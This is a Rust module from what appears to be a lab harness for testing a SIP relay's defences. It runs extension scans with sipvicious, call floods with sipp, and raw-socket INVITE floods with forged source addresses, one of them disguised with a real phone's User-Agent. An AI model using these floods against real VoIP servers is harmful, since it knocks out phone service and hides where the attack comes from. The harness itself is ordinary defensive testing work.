//! What listeners are attacked with: scanners and floods, from where nobody is known.

use std::{
    net::{Ipv4Addr, SocketAddr},
    sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed},
    thread,
    time::Duration,
};

use anyhow::{Context as _, Result};
use corex_lab::{Frame, RawSocket, WorkDir, sipp::SippOptions, topology::Relay};

/// Where scanners and sipp's flood come from.
pub const STRANGER: Ipv4Addr = Ipv4Addr::new(10, 0, 1, 66);
/// Frames between two looks at whether it is over.
const BURST: u64 = 64;

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// None: what calls cost by themselves.
    Nothing,
    /// sipvicious: extensions are enumerated by REGISTER, INVITE and OPTIONS.
    Scan,
    /// sipp begins calls as fast as it can.
    Calls,
    /// INVITEs of a scanner, each from another source, which is forged.
    Spoofed,
    /// The same without anything that tells them from a phone's.
    Disguised,
}

pub const ALL: [Attack; 5] = [
    Attack::Nothing,
    Attack::Scan,
    Attack::Calls,
    Attack::Spoofed,
    Attack::Disguised,
];

impl Attack {
    /// As the table has it.
    pub fn name(self) -> &'static str {
        match self {
            Self::Nothing => "nothing",
            Self::Scan => "sipvicious",
            Self::Calls => "sipp flood",
            Self::Spoofed => "spoofed flood",
            Self::Disguised => "spoofed, as phones",
        }
    }

    /// Attacks until it is over. Returns the datagrams that were sent.
    ///
    /// # Errors
    /// A program isn't there, or the kernel's.
    pub fn run(self, relay: &Relay, work: &WorkDir, is_over: &AtomicBool) -> Result<u64> {
        match self {
            Self::Nothing => Ok(0),
            Self::Spoofed => spoof(relay, is_over, "friendly-scanner"),
            Self::Disguised => spoof(relay, is_over, "Yealink SIP-T46S 66.86.0.15"),
            Self::Scan => counted(relay, || scan(relay, work, is_over)),
            Self::Calls => counted(relay, || call(relay, work, is_over)),
        }
    }
}

/// What the stranger sends meanwhile, as nftables counts it.
fn counted(relay: &Relay, what: impl FnOnce() -> Result<()>) -> Result<u64> {
    let rules = format!(
        "table inet offered {{ chain out {{ type filter hook output priority 0; \
         ip saddr {STRANGER} udp dport 5060 counter; }}; }}"
    );
    relay.uac.exec("nft", &[&rules])?;
    what()?;
    let said = relay
        .uac
        .exec("nft", &["list", "table", "inet", "offered"])?;
    let mut words = said
        .split_whitespace()
        .skip_while(|word| *word != "packets");
    let packets = words.nth(1).and_then(|word| word.parse().ok());
    relay
        .uac
        .exec("nft", &["delete", "table", "inet", "offered"])?;
    packets.context("nft counts no packets")
}

fn scan(relay: &Relay, work: &WorkDir, is_over: &AtomicBool) -> Result<()> {
    let (from, to) = (STRANGER.to_string(), Relay::USER_SIDE.v4.to_string());
    // svwar of sipvicious 0.3.3 has an option for the address to bind to, and doesn't.
    relay
        .uac
        .ip(&format!("route replace {to}/32 dev eth0 src {from}"))?;
    let mut methods = ["REGISTER", "INVITE", "OPTIONS"].into_iter().cycle();
    while !is_over.load(Relaxed) {
        let method = methods.next().unwrap_or("OPTIONS");
        let arguments = [
            "--force", "-e", "100-9999", "-m", method, "-t", "0", "-x", &from, &to,
        ];
        let log = work.join("svwar.log");
        let scanner = relay.uac.spawn("svwar", &arguments, &log)?;
        while scanner.status()?.is_none() && !is_over.load(Relaxed) {
            thread::sleep(Duration::from_millis(20));
        }
    }
    Ok(())
}

fn call(relay: &Relay, work: &WorkDir, is_over: &AtomicBool) -> Result<()> {
    const RATE: u64 = 20_000;
    let from = SocketAddr::from((STRANGER, 5061));
    // Nobody waits for answers: each call fails after a moment, and makes room.
    let flood = SippOptions::uac(from, Relay::USER_SIDE.sip(), 100_000_000, RATE)
        .argument("-recv_timeout")
        .argument("100")
        .argument("-l")
        .argument("20000")
        .argument("-nr")
        .start(&relay.uac, work.path(), "flood")?;
    while !is_over.load(Relaxed) && !flood.ended()? {
        thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

fn spoof(relay: &Relay, is_over: &AtomicBool, agent: &str) -> Result<u64> {
    let socket = RawSocket::open(&relay.uac, "eth0")?;
    let macs = (relay.uac.mac("eth0")?, relay.corex.mac("user")?);
    let frames: Vec<Vec<u8>> = (0..4096_u32)
        .map(|number| {
            let bits = u32::from(Ipv4Addr::new(172, 16, 0, 0)) | number.wrapping_mul(0x9e37) & 0xf_ffff;
            let from = SocketAddr::from((Ipv4Addr::from(bits), 5060));
            let message = format!(
                "INVITE sip:{number}@10.0.1.1 SIP/2.0\r\nVia: SIP/2.0/UDP {from};branch=z9hG4bK{number}\r\n\
                 Max-Forwards: 70\r\nFrom: <sip:{number}@x>;tag={number}\r\nTo: <sip:{number}@10.0.1.1>\r\n\
                 Call-ID: {number}@{from}\r\nCSeq: 1 INVITE\r\nContact: <sip:{number}@{from}>\r\n\
                 User-Agent: {agent}\r\nContent-Length: 0\r\n\r\n"
            );
            Frame::udp(
                (macs.0, from),
                (macs.1, Relay::USER_SIDE.sip()),
                message.as_bytes(),
            )
            .build()
        })
        .collect();
    let sent = AtomicU64::new(0);
    let mut next = frames.iter().cycle();
    while !is_over.load(Relaxed) {
        for frame in next.by_ref().take(BURST as usize) {
            // A full queue is no reason to stop.
            if socket.send(frame).is_ok() {
                sent.fetch_add(1, Relaxed);
            }
        }
    }
    Ok(sent.into_inner())
}
